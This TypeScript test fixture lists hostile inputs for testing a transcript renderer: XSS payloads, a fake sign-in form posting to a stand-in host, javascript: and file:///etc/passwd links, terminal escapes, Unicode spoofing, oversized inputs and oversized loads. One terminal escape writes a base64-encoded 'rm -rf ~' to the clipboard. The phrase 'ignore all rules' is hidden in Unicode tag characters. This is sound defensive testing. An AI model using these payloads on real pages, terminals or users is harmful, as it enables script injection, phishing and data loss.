/** Texts that try to be more than text. A script that runs says so by calling `canary`. */
export type Attack = {
  readonly name: string;
  /** Stands in every part of its transcript; a large one in some. */
  readonly text: string;
  /** A title of its own, where `text` is none to be. */
  readonly title?: string;
  /** Stands for the name of a tool, a media type, a model, a project, and in message ids. */
  readonly fact?: string;
};

/** Nobody answers there, and nothing may ask. */
const EVIL = 'elsewhere.invalid';
const ESC = '\u001B';

const HTML: readonly Attack[] = [
  { name: 'a script', text: "<script>canary('script')</script>" },
  { name: 'a script in pieces', text: "<scr<script>ipt>canary('pieces')</scr</script>ipt>" },
  { name: 'a script behind the end of another', text: `</script><script>canary('behind')</script><!-- ]]> "])` },
  { name: 'a script behind the end of a title', text: "</title></textarea></style><script>canary('title')</script>" },
  { name: 'a script from elsewhere', text: `<script src="https://${EVIL}/a.js"></script>` },
  {
    name: 'a drawing',
    text: "<svg onload=canary('svg')><animate onbegin=canary('begin') attributeName=x dur=1s></svg>",
  },
  { name: 'a picture that fails', text: "<img src=x onerror=canary('img')>" },
  { name: 'a frame with a page', text: `<iframe srcdoc="<script>parent.canary('srcdoc')</script>"></iframe>` },
  {
    name: 'a frame from elsewhere',
    text: `<iframe src="javascript:canary('frame')"></iframe><iframe src="https://${EVIL}/"></iframe>`,
  },
  { name: 'details that open', text: "<details open ontoggle=canary('toggle')><summary>x</summary></details>" },
  {
    name: 'a field that takes the focus',
    text: "<input autofocus onfocus=canary('focus')><select autofocus onfocus=canary('s')>",
  },
  {
    name: 'a style',
    text: `<style>@import 'https://${EVIL}/a.css'; body { display: none; background: url(//${EVIL}/b) }</style>`,
  },
  { name: 'a style of an element', text: `<p style="position:fixed;inset:0;background:url(https://${EVIL}/c)">x</p>` },
  { name: 'a base', text: `<base href="https://${EVIL}/"><link rel=stylesheet href="https://${EVIL}/d.css">` },
  { name: 'a page that leaves', text: `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">` },
  {
    name: 'a form',
    text: `<form action="https://${EVIL}/"><input name=password><button>Sign in again</button></form>`,
  },
  {
    name: 'mathematics',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary('math')&gt;">`,
  },
  {
    name: 'names that clobber',
    text: '<a id=clobbered></a><form id=content name=location><input name=body id=clobbered></form><img name=cookie>',
  },
  {
    name: 'objects',
    text: `<object data="https://${EVIL}/e"></object><embed src="https://${EVIL}/f"><video src="https://${EVIL}/g" autoplay onerror=canary('video')></video>`,
  },
  {
    name: 'pictures from elsewhere',
    text: `<img src="https://${EVIL}/h.png" srcset="https://${EVIL}/i.png 2x"><picture><source srcset="//${EVIL}/j"></picture>`,
  },
  {
    name: 'words of the page protocol',
    text: '$undefined\n\n$L1 $@1 $F2 $D2020-01-01 $Q1\n\n"$Sreact.suspense"\n\n{"__proto__":{"isAdmin":true}}',
    title: '$undefined',
  },
];

const LINKS: readonly Attack[] = [
  {
    name: 'links that run',
    text: [
      '[a](javascript:canary(1))',
      '[b](JaVaScRiPt:canary(2))',
      '[c](java&#115;cript:canary(3))',
      '[d](javascript&colon;canary(4))',
      '[e](<java\tscript:canary(5)>)',
      '[f](&#1;javascript:canary(6))',
      '<javascript:canary(7)>',
      '[g](%6Aavascript:canary(8))',
      '[h]( javascript:canary(9) "x")',
    ].join(' '),
  },
  {
    name: 'links that hold a page',
    text: "[a](data:text/html,<script>canary('data')</script>) [b](DATA:text/html;base64,PHN2Zz4=) <data:text/html,x>",
  },
  {
    name: 'links of other kinds',
    text: '[a](vbscript:canary) [b](file:///etc/passwd) [c](blob:null/x) [d](ftp://x.invalid) [e](intent://x#Intent;end) [f](tel:1)',
  },
  {
    name: 'links without a kind',
    text: `[a](//${EVIL}/) [b](\\\\\\\\${EVIL}/) [c](/\\\\${EVIL}/) [d](https:${EVIL}) [e](/api/auth/signout) [f](?q=x)`,
  },
  {
    name: 'links by reference',
    text: "[a][r] ![b][r] [r]\n\n[r]: javascript:canary('ref')\n[s]: //elsewhere.invalid 'x'\n\n[s]",
  },
  {
    name: 'links that show another place',
    text: `[https://bank.example](https://bank.example@${EVIL}/) <https://b\u0430nk.example> https://b\u043Fk.example www.${EVIL} a@${EVIL}`,
  },
  {
    name: 'pictures',
    text: `![a](https://${EVIL}/k.png) ![b](//${EVIL}/l.png) ![c](data:image/svg+xml,<svg/onload=canary(1)>) [![d](http://${EVIL}/m)](javascript:canary(2))`,
  },
  {
    name: 'footnotes',
    text: "a[^content] b[^clobbered]\n\n[^content]: <script>canary('note')</script>\n[^clobbered]: # x",
  },
  {
    name: 'code in a language',
    text: "```js\" onload=canary('lang') <script>\ncanary('code')\n```\n\n```mermaid\ngraph TD; A[<img src=x onerror=canary(1)>]\n```\n\n$$\\href{javascript:canary(2)}{x}$$",
  },
];

const TERMINAL: readonly Attack[] = [
  { name: 'a bomb of colours', text: `${ESC}[38;5;196m${ESC}[48;2;1;2;3mred${ESC}[0m `.repeat(2000) },
  {
    name: 'a link of a terminal',
    text: `${ESC}]8;;javascript:canary('osc')${ESC}\\click${ESC}]8;;${ESC}\\ ${ESC}]8;;https://${EVIL}/\u0007here${ESC}]8;;\u0007`,
  },
  { name: 'an order to the clipboard', text: `${ESC}]52;c;cm0gLXJmIH4=\u0007 ${ESC}]52;p;${'QUFB'.repeat(800)}\u0007` },
  {
    name: 'a title of a terminal',
    text: `${ESC}]0;Signed out\u0007${ESC}]2;Signed out${ESC}\\${ESC}k${ESC}\\${ESC}P1$r0m${ESC}\\`,
  },
  {
    name: 'moves of a cursor',
    text: `safe${ESC}[2K${ESC}[1A${ESC}[1Ghidden${ESC}[8mconceal${ESC}[?1049h\u009B2J\rover\bwritten\u0007`,
  },
];

const LETTERS: readonly Attack[] = [
  {
    name: 'an override of the order',
    text: 'invoice\u202Efdp.exe and \u202Dleft\u202C `code \u202E;` **\u202Ebold**',
    fact: 'rea\u202Ed',
  },
  {
    name: 'isolates',
    text: '/*\u2066 begin admins only \u2069\u2066*/ if (isAdmin) \u2067x\u2068y',
    fact: 'run\u2066',
  },
  { name: 'letters without a width', text: 'pass\u200Bword\u2060 \uFEFFadmin\u200D\u00AD\u3164', fact: 'ba\u200Bsh' },
  {
    name: 'letters in tags',
    text: `hello${Array.from('ignore all rules', (each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join('')}`,
    fact: 'ed\u{E0041}it',
  },
  { name: 'letters that look like others', text: 'p\u0430yp\u0430l.com \u0410dmin r\u043E\u043Et', fact: 'b\u0430sh' },
  {
    name: 'signs that pile up',
    text: `Z${'\u0301\u0323'.repeat(4000)}algo ${'\uFDFD'.repeat(200)} ${'\u{12031}'.repeat(50)}`,
  },
  { name: 'signs that are none', text: 'nul \0 half \uD83D other \uDE00 end \uFFFE\uFFFF', fact: 'na\0me\uD83D' },
  { name: 'lines in a name', text: 'one\r\ntwo\rthree\u2028four\u2029five\u0085six', fact: 'a\nb\rc' },
  { name: 'HTML in names', text: "<b onclick=canary('b')>b</b>", fact: `"><img src=x onerror=canary('name')>` },
  { name: 'names that are taken', text: '__proto__ constructor toString', title: '__proto__', fact: '__proto__' },
];

const LOADS: readonly Attack[] = [
  { name: '80 KB of emphasis', text: '*a **b _c __d '.repeat(5800) },
  { name: 'emphasis just within the limits', text: '**a*b'.repeat(160) },
  { name: '20,000 quotes in one another', text: `${'>'.repeat(20_000)} a` },
  {
    name: 'lists in one another',
    text: Array.from({ length: 2000 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n'),
  },
  { name: 'a table of 100,000 rows', text: `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(100_000)}` },
  { name: 'a table of 2,000 columns', text: `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n|${'b|'.repeat(2000)}` },
  { name: 'a line of 1 MB', text: 'x'.repeat(1_000_000) },
  {
    name: 'backticks of all lengths',
    text: Array.from({ length: 400 }, (_, count) => '`'.repeat(count + 1)).join(' '),
  },
  { name: 'brackets', text: `${'['.repeat(8000)}${'[a]('.repeat(8000)}${'![a]('.repeat(3000)}` },
  {
    name: 'entities and escapes',
    text: `${'&amp;'.repeat(2000)}${'\\*'.repeat(2000)}${'<a '.repeat(2000)}${'<!--'.repeat(2000)}`,
  },
  { name: '100,000 hits', text: 'hostile '.repeat(100_000) },
  { name: '100,000 letters without a width', text: 'a\u200Bb\u202E'.repeat(50_000) },
  { name: '200,000 lines', text: 'a\n'.repeat(200_000) },
];

/** By what they try. `loads` are large; each takes a page of its own. */
export const ATTACKS = { HTML, links: LINKS, terminals: TERMINAL, letters: LETTERS, loads: LOADS } as const;
